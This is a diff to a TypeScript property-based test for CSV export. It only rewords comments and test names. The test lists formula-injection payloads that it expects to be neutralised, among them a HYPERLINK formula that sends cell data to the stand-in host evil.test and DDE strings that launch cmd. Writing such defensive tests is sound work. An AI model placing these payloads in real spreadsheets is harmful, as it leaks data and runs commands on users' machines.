@@ -7,12 +7,12 @@ import { toCsvLine } from './csv.ts'
 const read = (text: string): string[][] => parse(text, { relaxColumnCount: true }) as string[][]
 
 const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/
-/** As a program reads a cell that takes semicolons and line breaks for the ends of cells: none of them is there any more. */
+/** Reads a cell like a program for which semicolons and line breaks end cells. */
 const asWithSemicolons = (cell: string): string[] => cell.split(/[;\r\n]/)
-/** Without the apostrophes that may have been put in. */
+/** Removes the added apostrophes. */
 const plain = (text: string | undefined) => text?.replaceAll("'", '')
 
-test('T6 no cell of somebody’s words is a formula, in whatever way it begins', () => {
+test('T6 no cell with foreign text is a formula, however it begins', () => {
   const attacks = [
     ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)'],
     ...['=HYPERLINK("http://evil.test?"&A1,"Click")', "=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")'],
@@ -28,7 +28,7 @@ test('T6 no cell of somebody’s words is a formula, in whatever way it begins',
   }
 })
 
-test('T6 whatever the cells hold, a reader finds as many, with the same words', () => {
+test('T6 a reader parses the same cells with the same text, whatever they contain', () => {
   const cell = fc.oneof(
     fc.string({ unit: 'grapheme' }),
     fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '"', ',', ';', '\t', '\r', '\n', ' ', "'", 'a') }),
